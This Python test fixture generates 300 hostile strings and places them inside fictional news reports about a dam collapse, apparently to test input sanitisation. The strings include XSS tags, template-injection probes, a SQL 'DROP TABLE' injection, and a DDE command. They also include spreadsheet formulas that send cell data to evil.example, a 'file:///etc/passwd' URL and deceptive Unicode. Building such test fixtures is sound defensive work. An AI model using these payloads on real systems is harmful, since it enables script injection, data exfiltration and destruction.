"""300 hostile texts, and reports that carry them in every place that a report has."""

import json
from itertools import islice, product
from pathlib import Path

FLAG = "window.hostile=1"
"""What every script of them would do."""

_TAGS = (
    "<script>{}</script>",
    "<img src=x onerror={}>",
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    "<body onpageshow={}>",
    "<details open ontoggle={}>x</details>",
    "<iframe srcdoc='<script>parent.{}</script>'></iframe>",
    "<input autofocus onfocus={}>",
    "<video><source onerror={}></video>",
    "<a href=javascript:{}>x</a>",
    "<form action=javascript:{}><button>x</button></form>",
    "<math><mtext><script>{}</script>",
    "<object data=javascript:{}></object>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>body{{display:none}}</style>",
    "<template><script>{}</script></template>",
    "<div hx-get=https://evil.example/ hx-trigger=load hx-on::load={}>x</div>",
    "<marquee onstart={}>x</marquee>",
)
_BREAKERS = ("{}", '">{}', "'>{}", "</title>{}", "</textarea>{}", "--><!-->{}", "]]>{}", "</script>{}")
_URLS = (
    "javascript:window.hostile=1",
    "JaVaScRiPt:window.hostile=1",
    "java\tscript:window.hostile=1",
    "\x01javascript:window.hostile=1",
    "data:text/html,<script>window.hostile=1</script>",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cuaG9zdGlsZT0xPC9zY3JpcHQ+",
    "vbscript:msgbox(1)",
    'https://evil.example/" onmouseover="window.hostile=1',
    "https://evil.example/'><script>window.hostile=1</script>",
    "//evil.example/x",
    "https://user:word@evil.example/",
    "https://\u0440\u0430yments.example/",
    "https://evil.example/{{template}}|url=x]",
    "file:///etc/passwd",
    "blob:https://evil.example/1",
    "https://[::1",
    "http://evil.example\\@good.example/",
    "https://evil.example/\u202egpj.exe",
)
_TEMPLATES = (
    "{{7*7}}",
    "{{ self.__init__.__globals__ }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}x{% endfor %}",
    "{# comment #}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{{constructor.constructor('window.hostile=1')()}}",
    "%(name)s %s %n",
    "{0.__class__}",
    "'; DROP TABLE decisions; --",
    '"; window.hostile=1; //',
    '\\";window.hostile=1;//',
    "\\u003cscript\\u003ewindow.hostile=1\\u003c/script\\u003e",
)
_FORMULAS = (
    "=1+1",
    '=HYPERLINK("https://evil.example/"&A1,"x")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    '=IMPORTXML("https://evil.example/","//a")',
    "%0A=1+1",
    '"=1+1"',
    "'=1+1",
)
_WIKI = (
    "{{delete}}",
    "{{cite news|title=x}}",
    "}}{{evil}}",
    "</ref>{{evil}}<ref>",
    "<ref name=p1>evil</ref>",
    "[[Category:Evil]]",
    "[[File:evil.svg|thumb]]",
    "[https://evil.example x]",
    "|url=javascript:1",
    "== heading ==",
    "'''bold'''",
    "~~~~",
    "__NOTOC__",
    "<nowiki>",
    "-{zh:x}-",
    "{| class=x\n|-\n| x\n|}",
    "#REDIRECT [[Evil]]",
    "ISBN 0123456789",
    "<!-- gone",
    "&#123;&#123;evil&#125;&#125;",
)
_MARKDOWN = (
    "[x](javascript:window.hostile=1)",
    "![x](https://evil.example/x.png)",
    "<https://evil.example/>",
    "[x]: https://evil.example/",
    "# heading",
    "```\ncode",
    "`x` <b>b</b>",
    "| a | b |\n|---|---|",
    "[^1]: evil",
    "[^1]",
    "***\n---",
    "> quote",
    "1. one",
    "~~gone~~ ==mark==",
    "https://evil.example/auto",
    "\\[x\\](https://evil.example/)",
)
_ODD = (
    *(chr(code) for code in (*range(9), 0x0B, 0x0C, *range(0x0E, 0x20), 0x7F, 0x80, 0x9F)),
    *("\u00ad", "\u061c", "\u200b", "\u200e", "\u200f", "\u2028", "\u2029", "\u202a", "\u202b", "\u202c", "\u202d"),
    *("\u202e", "\u2060", "\u2061", "\u2066", "\u2067", "\u2068", "\u2069", "\ufeff", "\ufff9", "\ufffa", "\ufffb"),
    *("\U000e0001", "\U000e0041", "\U000e007f", "\ud800", "\udfff", "\udc80", "\ufffe", "\U0010ffff"),
)
_LOOKALIKE = (
    "Рarallax",
    "раypal",
    "Ꭼvil",
    "ｅｖｉｌ",
    "e\u0301\u0301\u0301\u0301vil",
    "\u0335e\u0335v\u0335i\u0335l",
    "ﷺ" * 9,
)
_LONG = ("x" * 5000, "<" * 3000, "\u0300" * 2000, "ا" * 3000, "💥" * 1000, "&" * 2000, "a/" * 2000, "(" * 2000)


def hostile_texts() -> tuple[str, ...]:
    """All of them, each different."""
    marked = (breaker.format(tag.format(FLAG)) for breaker, tag in product(_BREAKERS, _TAGS))
    odd = tuple(f"dam{each}<b>age</b>{each}" for each in _ODD)
    others = (*_URLS, *_TEMPLATES, *_FORMULAS, *_WIKI, *_MARKDOWN, *odd, *_LOOKALIKE, *_LONG)
    return (*others, *islice(marked, 300 - len(others)))


COMMON = (
    "The spillway of the Orrin dam gave way on Monday, and water reached the village of Tidewell within an hour.",
    "Rescue workers searched the mill district of Tidewell through the night with boats and lamps.",
)


def hostile_reports() -> list[dict[str, object]]:
    """Reports of one event, ten hostile texts in each: as title, outlet, byline, address, place, speakers, words."""
    texts = hostile_texts()
    return [_report(n, texts[n * 10 : n * 10 + 10]) for n in range(len(texts) // 10)]


def _report(n: int, texts: tuple[str, ...]) -> dict[str, object]:
    title, outlet, byline, url, place, speaker, first, second, third, fourth = texts
    lines = (
        *COMMON,
        f"“{first} and {n + 3} people are missing,” said Mara Voss, the mayor of Tidewell.",
        f"{speaker} Voss told reporters that {second} had been seen near the dam on Tuesday.",
        f"The Orrin Dam Company said {third} was {n + 10} metres wide.",
        f'"At least {n + 2} people were killed in {place}," the {fourth} Ministry of Water said on Tuesday.',
        " ".join(texts),
    )
    return {
        "id": f"r-hostile-{n}",
        "title": f"Dam breaks near Tidewell: {title}",
        "outlet": outlet,
        "byline": byline,
        "url": url,
        "published": f"2031-03-{n % 9 + 4:02}",
        "language": "en",
        "text": "\n\n".join(lines),
    }


def write_hostile(path: Path) -> Path:
    """The reports as JSON Lines; half surrogate pairs as their escapes."""
    path.write_text("".join(json.dumps(each) + "\n" for each in hostile_reports()), "utf-8")
    return path
